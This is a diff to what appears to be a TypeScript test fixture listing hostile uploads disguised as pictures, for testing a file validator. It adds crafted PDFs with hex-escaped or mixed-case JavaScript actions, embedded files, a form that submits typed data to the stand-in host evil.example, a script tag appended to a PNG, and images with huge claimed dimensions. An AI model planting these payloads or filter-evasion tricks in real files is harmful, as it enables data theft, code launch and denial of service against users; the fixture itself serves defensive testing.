@@ -14,6 +14,26 @@ const PNG = aPng();
 const PDF = aPdf();
 const PNG_HEADER_END = 33;
 
+function withObject(object: string): Uint8Array<ArrayBuffer> {
+  return bytesOf(PDF.slice(0, 9), `${object}\n`, PDF.slice(9));
+}
+
+/** A picture whose header says another size than its pixels have. */
+function aPngSized(width: number, height: number): Uint8Array<ArrayBuffer> {
+  const file = PNG.slice();
+  new DataView(file.buffer).setUint32(16, width);
+  new DataView(file.buffer).setUint32(20, height);
+  return file;
+}
+
+function aJpegSized(width: number, height: number): Uint8Array<ArrayBuffer> {
+  const file = JPEG.slice();
+  const frame = file.findIndex((byte, at) => byte === 0xff && file[at + 1] === 0xc0);
+  new DataView(file.buffer).setUint16(frame + 5, height);
+  new DataView(file.buffer).setUint16(frame + 7, width);
+  return file;
+}
+
 /** What people and programs send under the name of a picture; none of it is a proof. */
 export const HOSTILE_FILES: Record<string, Uint8Array<ArrayBuffer>> = {
   'a renamed .exe': bytesOf('MZ', [0x90, 0], new Uint8Array(64), 'This program cannot be run in DOS mode.'),
@@ -68,5 +88,19 @@ export const HOSTILE_FILES: Record<string, Uint8Array<ArrayBuffer>> = {
     PDF.slice(9),
   ),
   'a PDF that starts a program': bytesOf(PDF.slice(0, 9), '<< /S /Launch /F (cmd.exe) >>\n', PDF.slice(9)),
+  'a PDF with a name in numbers': withObject('<< /S /#4aava#53cript >>'),
+  'a PDF in other letters': withObject('<< /S /JAVAscript >>'),
+  'a PDF with files in it': withObject('<< /Names << /EmbeddedFiles 7 0 R >> >>'),
+  'a PDF with one file in it': withObject('<< /Type /EmbeddedFile >>'),
+  'a PDF that sends what one types': withObject('<< /S /SubmitForm /F (https://evil.example) >>'),
+  'a PDF that fetches data': withObject('<< /S /ImportData /F (x.fdf) >>'),
+  'a PDF with a film': withObject('<< /Subtype /RichMedia >>'),
+  'a PDF that opens a file within': withObject('<< /S /GoToE >>'),
+  'a PNG with a script in capitals behind it': bytesOf(PNG, '<SCRIPT>alert(1)</SCRIPT>'),
+  'a PNG of 900 million pixels': aPngSized(30_000, 30_000),
+  'a PNG of 2^62 pixels': aPngSized(0x80000000, 0x80000000),
+  'a PNG too long to draw': aPngSized(1, 12_001),
+  'a PNG of a few pixels too many': aPngSized(10_000, 5_001),
+  'a JPEG of 4 thousand million pixels': aJpegSized(65_535, 65_535),
   'a page that says it is a PDF': bytesOf('%PDF-1.4\n', HTML, '\n%%EOF'),
 };
